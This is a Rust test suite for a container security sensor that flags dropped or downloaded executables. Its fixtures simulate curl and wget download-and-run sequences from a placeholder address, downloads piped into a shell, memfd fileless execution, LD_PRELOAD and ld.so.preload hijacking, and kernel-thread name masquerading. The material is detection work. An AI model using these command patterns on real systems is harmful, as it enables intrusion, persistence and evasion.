//! What is dropped is told with how it came; what is built or installed hardly at all.

use sensor_common::record::file::{Facts as FileFacts, FileRecord};
use sensor_common::record::process::FileIdentity;

use super::*;
use crate::detect::behaviour::world::{DEVICE, HOST, Lies, SECOND, World, file};

const BOX: u64 = 77;
const SHELL: u32 = 10;
const FROM: &str = "198.51.100.9:80";

fn world() -> World<Drift> {
    let mut world = World::new(Drift::new(Bounds::default()));
    world.container(BOX);
    world.exec(BOX, (2, 1), "/app/init", file(1, Lies::Image));
    world.exec(BOX, (1, SHELL), "/bin/sh", file(2, Lies::Image));
    world
}

fn plain(inode: u64, lies: Lies) -> FileIdentity {
    FileIdentity { mode: 0o100_644, ..file(inode, lies) }
}

/// A file is made.
fn write(world: &mut World<Drift>, pid: u32, path: &str, file: FileIdentity) {
    let record = FileRecord { file, flags: 0o101, facts: FileFacts::CREATED, ..FileRecord::default() };
    world.touch(BOX, pid, Class::FileOpen, path, record);
}

fn chmod(world: &mut World<Drift>, pid: u32, path: &str, file: FileIdentity) {
    let record = FileRecord { file, mode: 0o755, ..FileRecord::default() };
    world.touch(BOX, pid, Class::FileMode, path, record);
}

fn unlink(world: &mut World<Drift>, pid: u32, path: &str, file: FileIdentity) {
    world.touch(BOX, pid, Class::FileUnlink, path, FileRecord { file, ..FileRecord::default() });
}

fn severities(world: &World<Drift>) -> Vec<Severity> {
    world.found.iter().map(|finding| finding.severity).collect()
}

#[test]
fn downloaded_made_executable_and_started() {
    let mut world = world();
    world.exec(BOX, (SHELL, 20), "/usr/bin/curl -o /opt/x http://198.51.100.9/x", file(3, Lies::Image));
    world.connect(BOX, 20, 5, FROM);
    let upper = plain(9, Lies::Upper);
    write(&mut world, 20, "/opt/x", upper);
    world.exec(BOX, (SHELL, 21), "/bin/chmod +x /opt/x", file(4, Lies::Image));
    chmod(&mut world, 21, "/opt/x", upper);
    world.pass(5);
    let found = world.exec(BOX, (SHELL, 22), "/opt/x", file(9, Lies::Upper));
    let [finding] = found.as_slice() else { panic!("{found:?}") };
    assert_eq!(
        (finding.severity, &*finding.techniques),
        (Severity::High, &[T1105, T1204_002, T1036_005][..])
    );
    assert_eq!(
        finding.evidence,
        [
            "/usr/bin/curl wrote it 5 s before (curl -o /opt/x http://198.51.100.9/x, pid 20)",
            "at that time it, or what fed it, was connected with 198.51.100.9:80",
            "/bin/chmod made it executable 5 s before",
            "/bin/sh (pid 10) started it",
        ]
    );
}

/// The name of the downloader says nothing: who is connected, and whose sibling, does.
#[test]
fn other_ways_of_a_download() {
    // A pipe: the sibling is connected.
    let mut piped = world();
    piped.exec(BOX, (SHELL, 20), "/opt/.get http://198.51.100.9/x", file(3, Lies::Image));
    piped.connect(BOX, 20, 5, FROM);
    piped.exec(BOX, (SHELL, 21), "/bin/cat", file(4, Lies::Image));
    write(&mut piped, 21, "/tmp/x", file(9, Lies::Temporary));
    piped.exec(BOX, (SHELL, 22), "/tmp/x", file(9, Lies::Temporary));
    assert_eq!(severities(&piped), [Severity::High]);
    // The service itself, by an exploit, in a volume of its own.
    let mut service = world();
    service.connect(BOX, 1, 5, FROM);
    let volume = FileIdentity { filesystem: 0xef53, ..file(9, Lies::Image) };
    write(&mut service, 1, "/data/.cache/x", volume);
    service.exec(BOX, (1, 22), "/data/.cache/x", volume);
    assert_eq!(severities(&service), [Severity::High]);
    // Connected after it opened the file, as a redirection of a shell does.
    let mut redirected = world();
    redirected.exec(BOX, (SHELL, 20), "/bin/bash", file(4, Lies::Image));
    write(&mut redirected, 20, "/opt/x", file(9, Lies::Upper));
    redirected.exec(BOX, (SHELL, 20), "/usr/bin/wget -O- http://198.51.100.9/x", file(3, Lies::Image));
    redirected.connect(BOX, 20, 5, FROM);
    redirected.exec(BOX, (SHELL, 22), "/opt/x", file(9, Lies::Upper));
    assert_eq!(severities(&redirected), [Severity::High]);
}

#[test]
fn what_a_shell_reads_from_a_download() {
    const PIPE: u64 = 500;
    // Whatever comes first.
    for shell_first in [true, false] {
        for (writer, connects) in [("/usr/bin/curl", false), ("/opt/.get", true), ("/usr/bin/base64", false)]
        {
            let mut world = world();
            let write = |world: &mut World<Drift>| {
                world.exec_piped(BOX, (SHELL, 20), writer, (0, PIPE));
                if connects {
                    world.connect(BOX, 20, 5, FROM);
                }
            };
            if shell_first {
                world.exec_piped(BOX, (SHELL, 21), "/bin/sh", (PIPE, 0));
                write(&mut world);
            } else {
                write(&mut world);
                world.exec_piped(BOX, (SHELL, 21), "/bin/sh", (PIPE, 0));
            }
            assert_eq!(severities(&world), [Severity::High], "{writer} {shell_first}");
            assert!(world.found[0].id == RUN.id && world.found[0].evidence.len() >= 2);
        }
    }
    let mut others = world();
    others.exec_piped(BOX, (SHELL, 20), "/usr/bin/sort", (0, PIPE));
    others.exec_piped(BOX, (SHELL, 21), "/bin/sh", (PIPE, 0));
    others.exec_piped(BOX, (SHELL, 22), "/usr/bin/curl", (0, PIPE + 1));
    others.exec_piped(BOX, (SHELL, 23), "/usr/bin/jq", (PIPE + 1, 0));
    assert!(others.found.is_empty(), "{:?}", others.found);
    let mut built = world();
    built.exec(BOX, (SHELL, 30), "/sbin/apk add x", file(30, Lies::Image));
    built.exec_piped(BOX, (30, 20), "/usr/bin/curl", (0, PIPE));
    built.exec_piped(BOX, (30, 21), "/bin/sh", (PIPE, 0));
    assert!(built.found.is_empty());
}

#[test]
fn scripts_that_were_downloaded() {
    let downloaded = |connects: bool| {
        let mut world = world();
        world.exec(BOX, (SHELL, 20), "/usr/bin/curl -o /srv/x", file(3, Lies::Image));
        if connects {
            world.connect(BOX, 20, 5, FROM);
        }
        write(&mut world, 20, "/srv/x", plain(9, Lies::Upper));
        world
    };
    let mut started = downloaded(true);
    started.exec_script(BOX, (SHELL, 22), "/bin/sh", "/srv/x");
    assert_eq!(severities(&started), [Severity::High]);
    let mut read = downloaded(true);
    read.exec(BOX, (SHELL, 22), "/bin/sh /srv/x", file(2, Lies::Image));
    assert_eq!(severities(&read), [Severity::High]);
    let mut own = downloaded(false);
    own.exec_script(BOX, (SHELL, 22), "/bin/sh", "/srv/x");
    own.exec(BOX, (SHELL, 22), "/bin/sh /srv/y", file(2, Lies::Image));
    assert!(own.found.is_empty());
}

#[test]
fn written_by_nobody_knows_and_gone_again() {
    let mut world = world();
    world.exec(BOX, (SHELL, 20), "/usr/bin/base64 -d", file(3, Lies::Image));
    write(&mut world, 20, "/tmp/x", file(9, Lies::Upper));
    world.exec(BOX, (SHELL, 22), "/tmp/x", file(9, Lies::Upper));
    assert_eq!(severities(&world), [Severity::Medium]);
    unlink(&mut world, SHELL, "/tmp/other", file(10, Lies::Upper));
    unlink(&mut world, SHELL, "/tmp/x", file(9, Lies::Upper));
    assert_eq!(severities(&world), [Severity::Medium, Severity::High]);
    let last = world.found.last().unwrap();
    assert!(
        last.techniques.contains(&T1070_004)
            && last.evidence.iter().any(|fact| fact.contains("deleted 0 s after"))
    );
}

#[test]
fn by_the_loader_of_libraries_and_by_a_name_of_the_kernel() {
    let dropped = || {
        let mut world = world();
        world.exec(BOX, (SHELL, 20), "/bin/cp /bin/bash /opt/notes", file(3, Lies::Image));
        write(&mut world, 20, "/opt/notes", file(9, Lies::Upper));
        world
    };
    let mut loaded = dropped();
    loaded.exec(BOX, (SHELL, 22), "/lib64/ld-linux-x86-64.so.2 /opt/notes -c true", file(8, Lies::Image));
    assert_eq!(severities(&loaded), [Severity::High]);
    loaded.exec(BOX, (SHELL, 22), "/lib64/ld-linux-x86-64.so.2 /bin/true", file(8, Lies::Image));
    assert_eq!(loaded.found.len(), 1);
    let mut imitating = dropped();
    imitating.exec_as(BOX, (SHELL, 22), "/opt/notes", "[kworker/0:1]", file(9, Lies::Upper));
    assert_eq!(severities(&imitating), [Severity::Critical]);
    assert!(imitating.found[0].techniques.contains(&T1036_004));
}

#[test]
fn without_a_file() {
    let mut world = world();
    world.exec(BOX, (SHELL, 20), "/usr/bin/python3 -c x", file(3, Lies::Image));
    world.exec(BOX, (20, 21), "memfd:x", file(9, Lies::Memory));
    assert_eq!(severities(&world), [Severity::High]);
    world.connect(BOX, 20, 5, FROM);
    world.exec(BOX, (20, 22), "memfd:y", file(10, Lies::Memory));
    assert_eq!(severities(&world), [Severity::High, Severity::Critical]);
    // A name that looks like the runtime's does not help within a container.
    world.exec(BOX, (20, 23), "memfd:runc_cloned:/proc/self/exe", file(11, Lies::Memory));
    assert_eq!(world.found.len(), 3);
    world.exec(BOX, (2, 24), "memfd:runc_cloned:/proc/self/exe", file(12, Lies::Memory));
    assert_eq!(world.found.len(), 3, "the runtime itself");
}

#[test]
fn what_is_built_or_installed_is_low_and_told_once() {
    let mut world = world();
    // A package manager installs a compiler, which compiles, and the shell starts what it made.
    world.exec(BOX, (SHELL, 20), "/usr/bin/apt-get install gcc", file(3, Lies::Image));
    world.connect(BOX, 20, 5, FROM);
    world.exec(BOX, (20, 21), "/usr/bin/dpkg --unpack gcc.deb", file(4, Lies::Image));
    write(&mut world, 21, "/usr/bin/gcc", plain(9, Lies::Upper));
    chmod(&mut world, 21, "/usr/bin/gcc", plain(9, Lies::Upper));
    write(&mut world, 21, "/usr/bin/curl", file(12, Lies::Upper));
    world.exec(BOX, (SHELL, 22), "/usr/bin/gcc -o /tmp/a a.c", file(9, Lies::Upper));
    write(&mut world, 22, "/tmp/a", file(10, Lies::Upper));
    for pid in 30..60 {
        world.exec(BOX, (SHELL, pid), "/tmp/a", file(10, Lies::Upper));
    }
    unlink(&mut world, SHELL, "/tmp/a", file(10, Lies::Upper));
    assert_eq!(severities(&world), [Severity::Low]);
    // What was installed is no reason to trust what it brings.
    world.exec(BOX, (SHELL, 70), "/usr/bin/curl -o /tmp/b http://198.51.100.9/b", file(12, Lies::Upper));
    world.connect(BOX, 70, 6, FROM);
    write(&mut world, 70, "/tmp/b", file(13, Lies::Upper));
    world.exec(BOX, (SHELL, 71), "/tmp/b", file(13, Lies::Upper));
    assert_eq!(severities(&world), [Severity::Low, Severity::High]);
}

#[test]
fn volumes_of_other_containers_and_what_was_there_before() {
    let mut world = world();
    world.container(78);
    world.exec(78, (2, 40), "/bin/cp /bin/tool /shared/tool", file(30, Lies::Image));
    let record = FileRecord { file: file(31, Lies::Temporary), flags: 0o101, ..FileRecord::default() };
    world.touch(78, 40, Class::FileOpen, "/shared/tool", record);
    world.exec(BOX, (SHELL, 41), "/shared/tool", file(31, Lies::Temporary));
    assert_eq!(severities(&world), [Severity::Low]);
    // The agent came later than this one: the rules tell it, nothing more is known here.
    world.exec(BOX, (SHELL, 42), "/opt/old", file(32, Lies::Upper));
    // Numbers of a file are given again to one of another container.
    world.touch(
        78,
        40,
        Class::FileOpen,
        "/opt/x",
        FileRecord { file: file(50, Lies::Upper), flags: 1, ..FileRecord::default() },
    );
    world.exec(BOX, (SHELL, 44), "/opt/y", file(50, Lies::Upper));
    world.exec(78, (40, 45), "/bin/y", file(50, Lies::Image));
    // Nor is the host a container.
    world.exec(HOST, (1, 43), "memfd:x", file(33, Lies::Memory));
    assert_eq!(world.found.len(), 1);
}

#[test]
fn libraries_that_are_loaded_before_others() {
    let library = plain(9, Lies::Upper);
    let read = FileRecord { file: library, ..FileRecord::default() };
    let dropped = || {
        let mut world = world();
        world.exec(BOX, (SHELL, 20), "/bin/cp /x /usr/lib/libsystem.so", file(3, Lies::Image));
        write(&mut world, 20, "/usr/lib/libsystem.so", library);
        world
    };
    let mut plugin = dropped();
    plugin.exec(BOX, (SHELL, 30), "/app/server", file(5, Lies::Image));
    plugin.touch(BOX, 30, Class::FileOpen, "/usr/lib/libsystem.so", read);
    assert!(plugin.found.is_empty(), "programs load plugins");
    let mut for_all = dropped();
    write(&mut for_all, SHELL, "/etc/ld.so.preload", plain(10, Lies::Upper));
    for_all.exec(BOX, (SHELL, 30), "/app/server", file(5, Lies::Image));
    for_all.touch(BOX, 30, Class::FileOpen, "/usr/lib/libsystem.so", read);
    assert_eq!(severities(&for_all), [Severity::High]);
    let mut by_variable = dropped();
    by_variable.exec_with(BOX, (SHELL, 30), "/app/server", "LD_PRELOAD=/usr/lib/libsystem.so");
    by_variable.touch(BOX, 30, Class::FileOpen, "/usr/lib/libsystem.so", read);
    assert_eq!(severities(&by_variable), [Severity::High]);
    assert!(by_variable.found[0].techniques.contains(&T1574_006));
    // A virtual machine unpacks its own libraries and loads them.
    let mut java = world();
    java.exec(BOX, (1, 30), "/usr/bin/java -jar x.jar", file(5, Lies::Image));
    write(&mut java, 30, "/tmp/libnetty.so", library);
    java.touch(BOX, 30, Class::FileOpen, "/tmp/libnetty.so", read);
    assert!(java.found.is_empty());
}

#[test]
fn memory_is_bounded_and_programs_outlast_other_files() {
    let mut world = World::new(Drift::new(Bounds { entries_max: 64 }));
    world.container(BOX);
    world.exec(BOX, (2, 1), "/app/init", file(1, Lies::Image));
    world.exec(BOX, (1, SHELL), "/bin/sh", file(2, Lies::Image));
    world.connect(BOX, SHELL, 5, FROM);
    write(&mut world, SHELL, "/opt/x", file(9, Lies::Upper));
    for number in 0..5_000 {
        write(&mut world, SHELL, "/data/x", plain(1_000 + number, Lies::Upper));
    }
    world.exec(BOX, (SHELL, 20), "/opt/x", file(9, Lies::Upper));
    assert_eq!(severities(&world), [Severity::High]);
    for number in 0..5_000_u32 {
        let inode = 10_000 + u64::from(number);
        let cgroup = 1_000 + u64::from(number);
        world.container(cgroup);
        let program = FileIdentity { device: DEVICE + 1, ..file(inode, Lies::Upper) };
        let record = FileRecord { file: program, flags: 1, ..FileRecord::default() };
        world.exec(cgroup, (1, 100 + number), "/bin/sh", file(2, Lies::Image));
        world.connect(cgroup, 100 + number, 5, FROM);
        world.touch(cgroup, 100 + number, Class::FileOpen, "/tmp/y", record);
        world.touch(cgroup, 100 + number, Class::FileOpen, "/etc/ld.so.preload", record);
        world.exec_with(cgroup, (1, 100 + number), "/tmp/y", "LD_PRELOAD=/x.so");
        world.exec(cgroup, (1, 10_000 + number), "/tmp/y", program);
    }
    let table = world.behaviour.table();
    assert!(table.entries <= table.most && table.most == 10 * 64 && table.evicted > 0, "{table:?}");
}

#[test]
fn spans_are_for_people() {
    let second = SECOND;
    assert_eq!([span(5 * second), span(300 * second), span(9_000 * second)], ["5 s", "5 min", "2 h"]);
}
